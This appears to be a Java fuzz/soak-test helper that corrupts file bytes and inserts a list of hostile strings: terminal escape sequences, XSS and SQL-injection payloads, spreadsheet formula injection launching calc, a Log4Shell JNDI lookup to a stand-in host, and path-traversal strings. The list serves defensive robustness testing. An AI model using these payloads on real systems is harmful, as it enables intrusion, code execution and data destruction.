package org.whydunit.shell.soak;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;

/** Damages the bytes of one file, and hides attacks in it. */
final class HostileText {

  /** What others have put into logs to hurt those who read them: terminals, pages, spreadsheets, databases, formatters. */
  static final List<String> ATTACKS =
      List.of(
          "\u001b[2J\u001b]0;owned\u0007", "\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007", "\u009b31m", "\u202Egpj.exe\u202C",
          "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</style><svg onload=alert(1)>", "javascript:alert(1)",
          "=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|' /C calc'!A0", "'; DROP TABLE cases; --", "x' OR '1'='1", "${jndi:ldap://evil.example/a}",
          "%s%n%x", "{0}{driver.file}", "\0\0\0", "\uFEFF", "\uD800", "] ]>]]>", "../../../etc/passwd", "C:\\..\\..\\con");

  private static final int MOST = 1 << 20;

  private final Random random;

  HostileText(Random random) {
    this.random = random;
  }

  /** An attack. */
  String attack() {
    return ATTACKS.get(random.nextInt(ATTACKS.size()));
  }

  /** Another version of a sound file. */
  byte[] changed(byte[] sound) {
    byte[] bytes = sound.length > MOST ? Arrays.copyOf(sound, MOST) : sound.clone();
    for (int changes = random.nextInt(6); changes > 0 && bytes.length > 0; changes--) {
      bytes = once(bytes);
    }
    return bytes;
  }

  private byte[] once(byte[] bytes) {
    int at = random.nextInt(bytes.length);
    return switch (random.nextInt(9)) {
      case 0 -> Arrays.copyOf(bytes, at);
      case 1 -> flipped(bytes);
      case 2 -> with(bytes, at, attack().getBytes(StandardCharsets.UTF_8));
      case 3 -> with(bytes, lineStart(bytes, at), (attack() + "\n").getBytes(StandardCharsets.UTF_8));
      case 4 -> with(bytes, at, "A".repeat(1 + random.nextInt(100_000)).getBytes(StandardCharsets.US_ASCII));
      case 5 -> with(bytes, at, Arrays.copyOfRange(bytes, at, Math.min(bytes.length, at + random.nextInt(5_000))));
      case 6 -> noise(bytes, at);
      case 7 -> new String(bytes, StandardCharsets.ISO_8859_1).getBytes(random.nextBoolean() ? StandardCharsets.UTF_16LE : StandardCharsets.UTF_16BE);
      default -> new String(bytes, StandardCharsets.ISO_8859_1).replaceAll("[0-9]+", number()).getBytes(StandardCharsets.ISO_8859_1);
    };
  }

  private String number() {
    return List.of("0", "-1", "9".repeat(40), "2147483648", "1e309", "0x" + "F".repeat(20)).get(random.nextInt(6));
  }

  private byte[] flipped(byte[] bytes) {
    for (int flips = 1 + random.nextInt(50); flips > 0; flips--) {
      bytes[random.nextInt(bytes.length)] ^= (byte) (1 << random.nextInt(8));
    }
    return bytes;
  }

  private byte[] noise(byte[] bytes, int at) {
    byte[] noise = new byte[Math.min(random.nextInt(2_000), bytes.length - at)];
    random.nextBytes(noise);
    System.arraycopy(noise, 0, bytes, at, noise.length);
    return bytes;
  }

  private static int lineStart(byte[] bytes, int at) {
    int start = at;
    while (start > 0 && bytes[start - 1] != '\n') {
      start--;
    }
    return start;
  }

  private static byte[] with(byte[] bytes, int at, byte[] more) {
    byte[] joined = Arrays.copyOf(bytes, bytes.length + more.length);
    System.arraycopy(more, 0, joined, at, more.length);
    System.arraycopy(bytes, at, joined, at + more.length, bytes.length - at);
    return joined;
  }
}
